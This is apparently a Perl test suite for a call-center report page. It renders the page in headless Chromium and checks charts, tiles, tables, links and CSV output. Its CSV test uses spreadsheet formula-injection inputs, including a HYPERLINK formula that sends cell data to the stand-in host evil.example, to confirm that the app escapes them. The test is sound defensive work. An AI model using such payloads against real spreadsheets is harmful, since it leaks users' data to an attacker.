    my ($x20) = $den ? map { $_->value } $den->findnodes('//svg[contains(@class, "waits")]//line[contains(concat(" ", @class, " "), " level ")]/@x1') : ();
    ok($tile =~ /\b30\b/ && $tile =~ /80(?:\.0+)?\s*%/, 'SL 30 HTML: the service level tile says 30 s and 80%')
        or diag("tile: $tile");
    ok(defined $x30 && defined $x20 && $x30 > $x20, 'SL 30 HTML: the service-level line of the waits chart moves right')
        or diag('x1 at 20: ' . ($x20 // 'undef') . ', at 30: ' . ($x30 // 'undef'));
}

# ---------------------------------------------------------------------------
# The page in headless Chromium (Debian's chromium; missing = failing).
my $chromium = chromium_path();
ok($chromium, 'headless Chromium is installed (chromium)') or diag('chromium not found in PATH: the page tests below fail');
{   # the console check can fail: a page with a console error is caught
    my $r = chromium_run('data:text/html,<p>probe</p><script>console.error("minicc-probe"); nosuchfn();</script>', '--dump-dom');
    my @c = console_lines($r->{err});
    ok((grep { /minicc-probe/ } @c) && (grep { /Uncaught/ } @c),
       'Chromium: a console error and an uncaught exception of a page are seen in its log')
        or diag("rc $r->{rc}; stderr:\n$r->{err}");
}

my $cls = sub { join ' and ', map { qq{contains(concat(" ", normalize-space(\@class), " "), " $_ ")} } @_ };
sub nodes { my ($doc, $xp) = @_; return $doc ? $doc->findnodes($xp)->get_nodelist : () }
sub last_number { my ($s) = @_; return undef unless defined $s; my @n = $s =~ /(-?\d+(?:\.\d+)?)/g; return $n[-1] }

# Renders a report page; returns (chromium result, DOM).  2 tests: it
# rendered, no console messages.
sub render {
    my ($path, $name, @q) = @_;
    local $Test::Builder::Level = $Test::Builder::Level + 1;
    my $r = chromium_run(page_url(report_url($path, @q)), '--dump-dom',
                         '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE 127.0.0.1');
    my $doc = $r->{rc} == 0 && $r->{out} =~ /<html/i ? dom_parse($r->{out}) : undef;
    ok($doc, "$name: Chromium rendered the page") or diag("rc $r->{rc}\nstdout: " . substr($r->{out}, 0, 2000) . "\nstderr:\n$r->{err}");
    my @c = console_lines($r->{err});
    ok(!@c, "$name: no console errors") or diag(join "\n", @c);
    return ($r, $doc);
}

# Bars of the hours chart: counts per class and the values in their titles.
sub hour_bars {
    my ($doc, $class) = @_;
    return nodes($doc, '//svg[' . $cls->('chart', 'hours') . ']//rect[' . $cls->('bar', $class) . ']');
}

{
    my $name = 'page';
    my ($r, $doc) = render('/minicc/report', $name, @range);
    my $n = scalar @{ $json->{by_hour} || [] };
    is(scalar(my @c = nodes($doc, '//svg[' . $cls->('chart', 'hours') . ']')), 1, "$name: one svg.chart.hours");
    is(scalar(my @cd = nodes($doc, '//svg[' . $cls->('chart', 'days') . ']')), $FROM eq $TO ? 0 : 1,
       "$name: a chart per day only for more than one day ($FROM .. $TO)");
    for my $k (@hour_classes) {
        is(scalar(my @b = hour_bars($doc, $k)), $n, "$name: $n rect.bar.$k in the hours chart (one per hour)");
    }
    is(scalar(my @all = nodes($doc, '//svg[' . $cls->('chart', 'hours') . ']//rect[' . $cls->('bar') . ']')), 3 * $n,
       "$name: 3 x $n bars in the hours chart");
    my @heights_wrong;
    for my $k (@hour_classes) {
        my @b = hour_bars($doc, $k);
        my @vals = map { last_number($_->findvalue('./title')) } @b;
        is_deeply(\@vals, [ map { $_->{$k} } @{ $json->{by_hour} || [] } ], "$name: the $k bars carry the JSON's per-hour counts");
        for my $i (0 .. $#b) {
            my $h = $b[$i]->getAttribute('height') // 'none';
            push @heights_wrong, "$k #$i: value " . ($vals[$i] // 'undef') . ", height $h"
                unless $h =~ /\A\d+(?:\.\d+)?\z/ && (($vals[$i] // 0) > 0) == ($h > 0);
        }
    }
    ok(!@heights_wrong, "$name: a bar has a height exactly when its count is not 0")
        or diag(join "\n", @heights_wrong[0 .. ($#heights_wrong < 9 ? $#heights_wrong : 9)]);

    my @w = nodes($doc, '//svg[' . $cls->('chart', 'waits') . ']//rect[' . $cls->('bar', 'wait') . ']');
    is(scalar @w, 13, "$name: 13 rect.bar.wait in svg.chart.waits");
    is(scalar(my @l = nodes($doc, '//svg[' . $cls->('chart', 'waits') . ']//line[' . $cls->('level') . ']')), 1,
       "$name: one line.level (the service level) in the waits chart");
    is_deeply([ map { last_number($_->findvalue('./title')) } @w ], [0, 1, 1, 2, 1, (0) x 8],
              "$name: pick-ups per 10 s of waiting, bars closed on the right (0 | 1-10: 10 | 11-20: 20 | 21-30: 21, 30 | 31-40: 31)");

    for my $id (@tile_ids) {
        my $text = join ' ', map { $_->textContent } nodes($doc, qq{//*[\@id="$id"]});
        my $got = last_number($text);
        my $jv = $json->{$id};
        my $ok;
        if (defined $got && defined $jv) {
            if ($text =~ /%/) { $ok = abs($got - 100 * $jv) <= 0.05 + 1e-9 }
            elsif ($int_figure{$id}) { $ok = $got == $jv }
            else { $ok = abs($got - $jv) <= 0.05 + 1e-9 }
        }
        ok($ok, "$name: tile id=$id shows the JSON's " . ($jv // 'undef')) or diag("tile text: '$text'");
    }

    {
        my %flat = flat_figures($json);
        my @tiles = map { $_->value } nodes($doc, '//div[@class="tile"]/@id');
        my %settings = map { $_ => 1 } qw(from to service_level_seconds short_abandon_seconds);
        is_deeply([ sort @tiles ], [ sort grep { !$settings{$_} } keys %flat ],
                  "$name: a tile for every JSON figure but the range and the thresholds, and no other tile");
    }

    my @ops = map { my @td = $_->findnodes('./td');
                    @td >= 2 ? { telnum => $td[0]->textContent, answered => last_number($td[1]->textContent) } : () }
              nodes($doc, '//table[@id="operators"]//tr');
    is_deeply(sort_ops(\@ops), sort_ops($json->{operators}), "$name: table id=operators = the JSON's operators");

    my @rows = grep { $_->findnodes('./td')->size >= 3 } nodes($doc, '//table[@id="callback"]//tr');
    my (@cb, @links_wrong);
    for my $tr (@rows) {
        my @td = $tr->findnodes('./td');
        my ($a) = $td[0]->findnodes('.//a');
        my $href = $a ? $a->getAttribute('href') // '' : '';
        my $text = $td[0]->textContent;
        push @links_wrong, "'$text': href '$href'"
            unless $href =~ /\Atel:(.*)\z/s && decode('UTF-8', uri_unescape($1)) eq $text;
        push @cb, { from => $text, time => iso($td[1]->textContent =~ s/^\s+|\s+$//gr), wait_seconds => last_number($td[2]->textContent) };
    }
    is_deeply(\@cb, norm_calls($json->{abandoned_calls}), "$name: table id=callback = the JSON's call-back list, newest first");
    ok(@rows && !@links_wrong, "$name: every call-back number is a tel: link to that number")
        or diag(join "\n", @links_wrong);
    ok(!nodes($doc, '//script') && (grep { $_->{from} eq $SCRIPT } @cb),
       "$name: the From '$SCRIPT' is text in the DOM, no script element");

    my @ext;
    for my $attr (nodes($doc, '//@*')) {
        next unless $attr->nodeName =~ /(?:^|:)(?:src|href|action|formaction|poster|data|srcset|background|cite|manifest)\z/i;
        my $v = $attr->value;
        # a voicemail's recording is an <a> to Twilio's API, nothing else
        next if $attr->nodeName eq 'href' && $attr->parentNode->nodeName eq 'a'
            && $v =~ m{\Ahttps://api\.twilio\.com/};
        push @ext, $attr->nodeName . "=\"$v\"" if $v =~ m{\A\s*//} || ($v =~ /\A\s*([a-z][a-z0-9+.-]*):/i && lc $1 ne 'tel');
    }
    ok($doc && !@ext, "$name: no link or source outside the page (only tel:, relative URLs and Twilio's recordings)") or diag(join "\n", @ext);
    my @bad_el = map { $_->nodeName } nodes($doc, '//script | //link | //img | //iframe | //frame | //object | //embed | //audio | //video | //source | //image | //use');
    my $css = join "\n", map { $_->textContent } nodes($doc, '//style');
    $css .= "\n" . join "\n", map { $_->value } nodes($doc, '//@style');
    push @bad_el, 'CSS url()/@import' if $css =~ /url\s*\(|\@import/i;
    ok($doc && !@bad_el, "$name: no external scripts, stylesheets, images or fonts (inline CSS and SVG only)")
        or diag("@bad_el");
}

# Two days across midnight: 48 hours of bars.
{
    my $name = 'page 2023-11-14 .. 2023-11-15';
    my ($r, $doc) = render('/minicc/report', $name, from => '2023-11-14', to => '2023-11-15');
    is_deeply([ map { scalar(my @b = hour_bars($doc, $_)) } @hour_classes ], [48, 48, 48],
              "$name: 48 bars of each class (offered, answered, abandoned)");
    my (undef, $two) = report_json('/minicc/report', from => '2023-11-14', to => '2023-11-15');
    my @day_bars = map { [ nodes($doc, '//svg[' . $cls->('chart', 'days') . ']//rect[' . $cls->('bar', $_) . ']') ] } @hour_classes;
    is_deeply([ map { scalar @$_ } @day_bars ], [2, 2, 2], "$name: a chart per day beside the one per hour: 2 bars of each class");
    is_deeply([ map { [ map { last_number($_->findvalue('./title')) } @$_ ] } @day_bars ],
              [ map { my $k = $_; [ map { $_->{$k} } @{ $two->{by_day} || [] } ] } @hour_classes ],
              "$name: the day bars carry the JSON's per-day counts");
    is(scalar(my @w = nodes($doc, '//svg[' . $cls->('chart', 'waits') . ']//rect[' . $cls->('bar', 'wait') . ']')), 13,
       "$name: 13 wait bars");
    is(last_number(join ' ', map { $_->textContent } nodes($doc, '//*[@id="offered"]')), 5, "$name: tile id=offered shows 5");
    is(last_number(join ' ', map { $_->textContent } nodes($doc, '//*[@id="abandoned"]')), 3, "$name: tile id=abandoned shows 3");
}

# Japanese, as the browser decodes it.
{
    my $name = 'ja-JP page';
    my ($r, $doc) = render('/report-ja/report', $name, @range);
    my $lang = $doc ? $doc->findvalue('/html/@lang') : '';
    my $h1 = $doc ? decode('UTF-8', encode('UTF-8', $doc->findvalue('//h1'))) : '';
    ok($lang eq 'ja' && index($h1, "\x{30b3}\x{30fc}\x{30eb}\x{30bb}\x{30f3}\x{30bf}\x{30fc}") >= 0,
       "$name: lang=\"ja\", the heading says コールセンター") or diag("lang '$lang', h1 '" . encode('UTF-8', $h1) . "'");
}

# CSV cells a spreadsheet would run as formulas (SPEC 17): each written as
# text, an apostrophe first, in quotes; a +81 number stays text; an
# ordinary cell unchanged.  Rows made through the webhook, today.
{
    my @from = ('=HYPERLINK("http://evil.example/?"&A1,"x")', '+819012345678', '-2+3', '@SUM(A1:A9)',
                "\tcmd", 'plain 0312345678');
    my %want = ('=HYPERLINK("http://evil.example/?"&A1,"x")' => q{"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"},
                '+819012345678' => q{"'+819012345678"}, '-2+3' => q{"'-2+3"}, '@SUM(A1:A9)' => q{"'@SUM(A1:A9)"},
                "\tcmd" => qq{"'\tcmd"}, 'plain 0312345678' => 'plain 0312345678');
    for my $f (@from) {
        post('/minicc/exit', [CallSid => sid(), From => $f, QueueResult => 'hangup', QueueTime => 99]);
    }
    my $body = report_get('/minicc/report', format => 'csv', table => 'abandoned')->content;
    my %cell = map { /\A((?:"(?:[^"]|"")*")|[^,]*),/ ? ($1 => 1) : () } split /\r\n/, $body;
    for my $f (@from) {
        ok($cell{$want{$f}}, 'CSV: From ' . ($f =~ s/\t/\\t/r) . " written as $want{$f}" =~ s/\t/\\t/r)
            or diag($body);
    }
}

# A screenshot for people to look at: t/logs/report.png.
{
    my $png = Apache::Test::vars('t_logs') . '/report.png';
    unlink $png;
    my $r = chromium_run(page_url(report_url('/minicc/report', @range)), "--screenshot=$png", '--window-size=1200,1600',
                         '--hide-scrollbars');
    ok($r->{rc} == 0 && -s $png, "screenshot saved: $png") or diag("rc $r->{rc}\n$r->{err}");
    my $head = '';
    if (open my $fh, '<:raw', $png) { read $fh, $head, 24 }
    my ($w, $h) = length($head) == 24 ? unpack('N N', substr($head, 16, 8)) : (0, 0);
    ok(substr($head, 0, 8) eq "\x89PNG\r\n\x1a\n" && substr($head, 12, 4) eq 'IHDR' && $w == 1200 && $h == 1600,
       'screenshot: a 1200x1600 PNG') or diag("size ${w}x$h");
}
